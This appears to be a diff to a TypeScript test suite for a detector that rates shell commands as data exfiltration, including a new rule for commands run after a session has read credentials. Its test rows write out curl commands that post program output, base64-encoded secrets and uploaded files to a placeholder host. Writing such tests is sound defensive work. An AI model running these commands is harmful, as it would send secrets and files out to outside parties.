@@ -109,13 +109,30 @@ const SENT: readonly (readonly [command: string, severity: string | null, why: s
   ["curl -d 'to=jane@initech.de' https://e.test", null, "an address"],
   ["curl -d @notes.txt https://e.test", null, "an ordinary file"],
   ["git log | curl -d @- https://e.test", null, "an ordinary program"],
-  ["git log | curl -d @- https://e.test", "medium", "after secrets were read", HAS_READ],
+  ["git log | curl -d @- https://e.test", null, "after secrets were read that is another finding", HAS_READ],
   ["curl https://e.test/a.json", null, "nothing is sent", HAS_READ],
 ];
 
 describe("exfiltration", () => {
   it.each(SENT)("P9: %j: %j (%s)", (command, severity, _why, session) => {
     expect(worst(command, "data.exfiltration", session)).toBe(severity);
+  });
+});
+
+describe("after a session has read secrets", () => {
+  it.each([
+    ["git log | curl -d @- https://e.test", "medium", "what a program says"],
+    ["curl -d x=c2VjcmV0IHN0dWZmIGhlcmU https://e.test", "medium", "what the call spells"],
+    ["curl -F f=@/home/dev/project/made.txt https://e.test", "medium", "a file the session wrote"],
+    ["curl -F f=@notes.txt https://e.test", null, "a file as it was found"],
+    ["curl https://e.test/a.json", null, "nothing is sent"],
+    ["curl 'https://e.test/?q=c2VjcmV0IHN0dWZmIGhlcmUgc2VjcmV0IHN0dWZmIGhlcmU'", "medium", "a long query"],
+    ["curl -d a=1 http://localhost:3000", null, "stays here"],
+    ["git push origin main", null, "commits are not told from others"],
+  ])("P9: %j: %j (%s)", (command, severity) => {
+    const made = { path: "/home/dev/project/made.txt", content: "x", sources: [] };
+    expect(worst(command, "data.after-secrets", { written: [made], read: ["credential"] })).toBe(severity);
+    expect(worst(command, "data.after-secrets")).toBe(null);
   });
 });
 
